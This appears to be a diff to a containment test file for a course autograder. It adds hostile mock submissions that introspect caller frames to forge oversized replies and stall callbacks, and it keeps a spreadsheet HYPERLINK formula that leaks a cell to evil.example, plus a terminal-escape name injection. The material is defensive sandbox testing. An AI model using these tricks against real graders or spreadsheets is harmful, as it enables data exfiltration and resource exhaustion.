@@ -1,6 +1,6 @@
 """Containment: a submission is one unit, no file stops the batch, reports trust no name.
 
-Issue 11, classes 1, 2, 4, 5 and 7, each as a class. ONE batch (``python -m autograder grade``,
+Issue 11, classes 1, 2, 3, 4, 5 and 7, each as a class. ONE batch (``python -m autograder grade``,
 one worker, so that the submissions share a sandbox uid one after the other, as a class
 does) holds an honest submission and:
 
@@ -10,6 +10,10 @@ does) holds an honest submission and:
   ``--memory-mb 2048``: the submission as a whole is over, and is killed with a memory reason;
   the host's MemAvailable, sampled while the batch runs, never drops by more than the limit
   plus ``MEMORY_MARGIN``;
+- (3) ``c3_many_references``: ``tanh_grad`` forges a reply that references one 64 MiB array
+  80 times; ``c3_never_reads``: ``numerical_gradient`` asks for the test's function with a
+  256 MiB argument and never reads the answer: both lose that test only, with a reason, and
+  the host's free memory stays within the same bound (more in ``test_trusted_bounds.py``);
 - (5) ``k1_writer`` leaves a trace in every shared kernel object it can reach (keyrings,
   SysV IPC, a POSIX message queue, an abstract unix socket held by a daemon, /dev/shm, /tmp,
   a cache in $HOME); ``k2_reader``, graded next by the same worker, looks for each;
@@ -29,12 +33,10 @@ from __future__ import annotations
 import copy
 import csv
 import functools
-import hashlib
 import json
 import os
 import re
 import shutil
-import stat
 import subprocess
 import sys
 import threading
@@ -52,6 +54,7 @@ from autograder.sandbox.isolation import probe
 from coursebuild.course import ROOT, assignment as find_assignment
 
 from . import fixtures as F
+from .fixtures import file_hashes, process_names, sandbox_processes
 
 pytestmark = pytest.mark.slow
 
@@ -66,7 +69,6 @@ MEMORY_MARGIN = 1536 * 2**20
 # (pages it shares with the zygote count in part, see ``sandbox.watchdog``), and it sees memory
 # only every 20 ms: the fallback's stated margin is 1 GiB more.
 FALLBACK_MARGIN = MEMORY_MARGIN + 2**30
-UID_RANGE = range(61000, 61064)
 MODE = probe()
 HYPERLINK = '=HYPERLINK("http:evil.example?"&A1,"open")'   # (a folder name has no slash)
 ESCAPES = "\x1b[2J\x1b[31mmallory\nroot"
@@ -106,6 +108,48 @@ def setsid_daemon(token: str):
         while True:
             pass
     """, name=f"bfs{token[:10]}"), after="setup")
+
+
+# (3) the student's code finds the agent and the request it answers in its caller's frame
+FIND_AGENT = """
+    import io, sys
+    def array_to_npy(array):
+        buffer = io.BytesIO()
+        np.lib.format.write_array(buffer, array, allow_pickle=False)
+        return buffer.getvalue()
+    def _agent_and_request():
+        frame = sys._getframe(2)
+        while frame is not None and "header" not in frame.f_locals:
+            frame = frame.f_back
+        return frame.f_locals["self"], frame.f_locals["header"]
+"""
+
+
+def many_references():
+    """A forged reply to the test's call of tanh_grad: one 64 MiB array referenced 80 times
+    (5 GiB on the grader's side if each reference were decoded afresh)."""
+    return F.with_answer(honest_nb(), TARGET, code(FIND_AGENT) + code("""
+        def tanh_grad(x):
+            import time
+            agent, header = _agent_and_request()
+            agent.channel.send({"op": "reply", "id": header["id"], "ok": True,
+                                "value": {"$t": [{"$a": 0}] * 80}}, [array_to_npy(np.ones(8 * 2**20))])
+            time.sleep(3600)
+    """))
+
+
+def never_reads():
+    """numerical_gradient asks for the test's function on its own, then stops reading."""
+    return F.with_answer(honest_nb(), "numerical_gradient", code(FIND_AGENT) + code("""
+        def numerical_gradient(f, x, h=1e-5):
+            import time
+            agent, header = _agent_and_request()
+            key = header["args"][0]["$cb"]
+            big = {"$a": 0}
+            agent.channel.send({"op": "callback", "id": "s999", "key": key, "args": [big],
+                                "kwargs": {"$d": []}}, [array_to_npy(np.ones(32 * 2**20))])
+            time.sleep(3600)
+    """))
 
 
 def memory_children():
@@ -226,47 +270,10 @@ NAMES = {HYPERLINK: "not a plain name", ESCAPES: "not a plain name"}
 
 # ============================================================================ the batch
 
-def file_hashes(*folders: Path) -> dict[str, str]:
-    """Content hashes of the regular files (sizes and modes of the rest, never read)."""
-    hashes = {}
-    for folder in folders:
-        for dirpath, dirnames, filenames in os.walk(folder):
-            for name in dirnames + filenames:
-                path = Path(dirpath, name)
-                info = path.lstat()
-                if stat.S_ISREG(info.st_mode) and info.st_size < 2**27:
-                    hashes[str(path)] = hashlib.sha256(path.read_bytes()).hexdigest()
-                elif stat.S_ISLNK(info.st_mode):
-                    hashes[str(path)] = "link:" + os.readlink(path)
-                else:
-                    hashes[str(path)] = f"mode {info.st_mode:o} size {info.st_size} mtime {info.st_mtime_ns}"
-    return hashes
 
 
-def sandbox_processes(marker: bytes) -> set:
-    found = set()
-    for entry in Path("/proc").iterdir():
-        if not entry.name.isdigit():
-            continue
-        try:
-            status = (entry / "status").read_text()
-            command = (entry / "cmdline").read_bytes()
-        except OSError:
-            continue
-        uid = int(re.search(r"^Uid:\s+(\d+)", status, re.M).group(1))
-        if uid in UID_RANGE and marker in command:
-            found.add((int(entry.name), command.decode(errors="replace")[:120]))
-    return found
 
 
-def process_names() -> set[str]:
-    names = set()
-    for entry in Path("/proc").glob("[0-9]*/comm"):
-        try:
-            names.add(entry.read_text().strip())
-        except OSError:
-            pass
-    return names
 
 
 def mem_available() -> int:
@@ -355,6 +362,7 @@ def batch(tmp_path_factory):
     token = uuid.uuid4().hex
     builds = {"honest": honest_nb(), "c1_setsid_daemon": setsid_daemon(token),
               "c2_memory_children": memory_children(),
+              "c3_many_references": many_references(), "c3_never_reads": never_reads(),
               "k1_writer": kernel_objects(token, "leave"), "k2_reader": kernel_objects(token, "look")}
     builds.update({r.student: r.make for r in REFUSALS})
     builds.update({name: honest_nb() for name in NAMES})
@@ -406,6 +414,22 @@ def test_class2_memory_is_limited_for_the_submission_as_a_whole(batch):
         f"MemAvailable dropped by {batch.memory_drop / 2**30:.2f} GiB"
     print(f"\nMemAvailable dropped by at most {batch.memory_drop / 2**30:.2f} GiB "
           f"(limit {MEMORY_MB / 1024:.0f} GiB + margin {MEMORY_MARGIN / 2**30:.1f} GiB)")
+
+
+def test_class3_the_grader_side_stays_bounded_whatever_the_sandbox_sends(batch):
+    honest = {t.grade_id: t for t in batch.result("honest").tests}
+    for student, target, reason in [
+            ("c3_many_references", TARGET, r"sent a malformed message \(an array referenced twice\)"),
+            ("c3_never_reads", "numerical_gradient", r"time limit")]:
+        result = batch.result(student)
+        for test in result.tests:
+            if test.grade_id == f"test_{target}":
+                assert test.points == 0 and re.search(reason, test.message), (student, test.message)
+            else:
+                assert test.points == honest[test.grade_id].max_points, (student, test.grade_id, test.message)
+    # the 80 references were refused: nothing like 5 GiB left the host's free memory
+    assert batch.memory_drop <= MEMORY_MB * 2**20 + MEMORY_MARGIN, \
+        f"MemAvailable dropped by {batch.memory_drop / 2**30:.2f} GiB"
 
 
 def _kernel_report(batch, student: str, prefix: str) -> dict:
